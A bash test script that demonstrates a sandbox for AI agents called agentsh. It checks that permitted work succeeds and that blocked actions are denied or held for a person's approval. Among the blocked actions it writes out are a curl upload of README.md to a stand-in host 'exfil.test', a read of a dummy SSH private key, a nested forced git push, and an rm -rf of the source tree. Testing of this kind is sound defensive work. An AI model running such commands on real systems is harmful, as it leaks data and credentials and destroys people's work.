#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# An agent's afternoon, governed. The workspace is a clone of this repository; a namespace with a DNS authority and web servers of its
# own stands for the Internet. Prints each command, what happened and the event that says so; exit 1 if anything is not as it should be.
set -u
top=$(cd "$(dirname "$0")/../.." && pwd)
# shellcheck source=tests/lib/net.sh
. "$top/tests/lib/net.sh"
A=$top/bin/agentsh
T=$(mktemp -d /var/tmp/agentsh-demo.XXXXXX)
W=$T/project
export AGENTSH_RUN_DIR=$T/run AGENTSH_DATA_DIR=$T/data HOME=$T/home
begun=$(date +%s)
failed=0 internet='' person='' SID=''
b='' d='' r=''
[ -t 1 ] && [ -z "${NO_COLOR-}" ] && b=$'\e[1m' d=$'\e[2m' r=$'\e[0m'

finish() {
	"$A" server stop >/dev/null 2>&1
	for pid in $person $internet; do
		kill "$pid" 2>/dev/null
		wait "$pid" 2>/dev/null
	done
	rm -rf "$T"
}
trap finish EXIT
trap 'exit 1' INT TERM

title() { printf '\n%s== %s%s\n' "$b" "$1" "$r"; }
# As one would type it: quotes only where they are needed.
typed() {
	local a
	for a; do
		case $a in *[!A-Za-z0-9_./:=@%+-]* | '') printf " '%s'" "${a//\'/\'\\\'\'}" ;; *) printf ' %s' "$a" ;; esac
	done
}
# act COMMAND...: what the agent does, in its session
act() {
	printf '%s$ agentsh exec $SID --%s%s\n' "$b" "$(typed "$@")" "$r"
	timeout 300 "$A" exec "$SID" -- "$@" >"$T/out" 2>&1 </dev/null
	code=$?
	tail -n "${SHOWN-6}" "$T/out" | cut -c1-160 | sed 's/^/    /'
	printf '%s    exit code %d%s\n' "$d" "$code" "$r"
}
# event TYPE JQ-SELECT: the newest event of that type that fits
event() {
	local line
	line=$("$A" events query --session "$SID" --type "$1" --limit 100000 | jq -c "select($2)" | tail -1)
	[ -n "$line" ] || { wrong "no event of type $1 says so"; return; }
	jq -r '"    event: " + ([.type, (.domain // .path // .filename // .target // .remote_addr // (.argv // [] | join(" "))),
		.policy.effective_decision, (if .policy.rule then "rule " + .policy.rule else empty end), .policy.message // empty] | map(tostring) | join(" | "))' <<<"$line" |
		cut -c1-260 | sed "s|^|$d|; s|\$|$r|"
}
wrong() {
	echo "    NOT AS EXPECTED: $1"
	failed=1
}
expect() { # WORDS TEST...
	local words=$1
	shift
	"$@" || wrong "$words"
}
sums() { (cd "$W" && find common policy netd fsd execd cli -type f -exec sha256sum {} + | sort); }

mkdir -p "$HOME/.ssh"
head -c 400 /dev/urandom | base64 >"$HOME/.ssh/id_ed25519"
internet_up "$T/net" example.com=203.0.113.10 example.com=2001:db8::10 exfil.test=203.0.113.66 || exit 1
git clone -q "$top" "$W" 2>"$T/err" || { cat "$T/err"; exit 1; }

title "A session: the agent gets this workspace, the policy \"default\", and nothing else"
printf '%s$ SID=$(agentsh session create --workspace . | jq -r .id)%s\n' "$b" "$r"
SID=$("$A" session create --workspace "$W" 2>"$T/err" | jq -r .id)
[ -n "$SID" ] || { cat "$T/err"; exit 1; }
"$A" session info "$SID" | jq -r '"    " + .id + ", policy " + .policy + ", workspace " + .workspace'

title "Real work just works"
act git log --oneline -3
expect "git log fails" test "$code" = 0
SHOWN=3 act make -j2 bins
expect "the build fails" test "$code" = 0
act sh -c './bin/agentsh policy validate policies/default.yaml && ./bin/agentsh --version'
expect "what was built does not run" test "$code" = 0
act sh -c 'git checkout -qb agent && echo "agents were here" >>README.md && git -c user.name=agent -c user.email=agent@example.com commit -qam "README: say so" && git log --oneline -1'
expect "the commit fails" test "$(git -C "$W" log -1 --format=%s agent)" = "README: say so"
event execve '.filename | endswith("/git")'

title "The network: named hosts only, everything else has no way out"
act curl -sS https://example.com
expect "the page did not arrive" grep -q 'Example Domain' "$T/out"
event net_connect '.domain == "example.com"'
act curl -sS -d @README.md https://exfil.test/
expect "the name was not refused" test "$code" != 0
event dns_query '.domain == "exfil.test" and .policy.effective_decision == "deny"'
act curl -sS --connect-timeout 5 http://203.0.113.66/
expect "the address was not refused" test "$code" != 0
event net_connect '.remote_addr == "203.0.113.66" and .policy.effective_decision == "deny"'
expect "the denied name was asked upstream" sh -c "! grep -q exfil.test '$T/net/dns.log'"
expect "something arrived at the denied host" sh -c "! grep -q exfil.test '$T/net/http.log'"

title "A private key: a child of Python tries to read it"
act python3 -c "import subprocess; subprocess.run([\"cat\", \"$HOME/.ssh/id_ed25519\"])"
expect "the key was read" sh -c "! grep -qF \"\$(head -1 '$HOME/.ssh/id_ed25519')\" '$T/out'"
expect "the refusal is not seen" grep -q 'Permission denied' "$T/out"
event file_read '.path | endswith("id_ed25519")'

title "A forbidden program, three levels deep: make, sh, python3, git push --force"
printf 'ship:\n\tsh ship.sh\n' >"$W/ship.mk"
printf 'python3 -c "import subprocess; subprocess.run([\\"git\\", \\"push\\", \\"--force\\", \\"origin\\", \\"main\\"])"\n' >"$W/ship.sh"
act make -f ship.mk
expect "the build did not fail" test "$code" != 0
event execve '.policy.effective_decision == "deny" and (.argv | index("push"))'

title "rm -rf of the sources: a person is asked, and what is deleted is kept"
before=$(sums)
"$A" approve watch >"$T/asked" 2>/dev/null </dev/null &
person=$!
sleep 0.5
(
	for _ in $(seq 200); do [ -s "$T/asked" ] && break; sleep 0.05; done
	"$A" approve resolve "$(head -1 "$T/asked" | jq -r .id)" --allow --reason "the demo's person" >/dev/null
) &
answer=$!
SHOWN=2 act rm -rf common policy netd fsd execd cli
wait "$answer"
jq -r '"    asked: " + .message + "  answered: allow"' "$T/asked" | head -1
expect "nothing was deleted" test ! -e "$W/netd"
event approval_resolved true
event file_soft_deleted true
printf '%s$ agentsh trash list --session $SID | wc -l%s\n' "$b" "$r"
echo "    $("$A" trash list --session "$SID" | wc -l) entries"
printf '%s$ agentsh trash restore --all --session $SID%s\n' "$b" "$r"
"$A" trash restore --all --session "$SID" | tail -1 | sed 's/^/    /'
expect "what came back is not what was deleted" test "$(sums)" = "$before"
[ "$failed" = 0 ] && echo "    every file is back, checksums equal"

title "The end: nothing stays"
"$A" session destroy "$SID" >/dev/null
"$A" server stop >/dev/null
sleep 0.2
expect "a process stays" sh -c "! pgrep -f '$T/(run|data)' >/dev/null"
expect "a mount stays" test "$(grep -c "$T/data" /proc/mounts)" = 0
expect "a cgroup stays" test -z "$(find /sys/fs/cgroup -maxdepth 3 -name "agentsh-$SID" 2>/dev/null)"
if [ "$failed" = 0 ]; then
	printf '\n%sAll as it should be, in %d s.%s Records were in AGENTSH_DATA_DIR; README.md says what works and what does not yet.\n' "$b" $(($(date +%s) - begun)) "$r"
fi
exit $failed
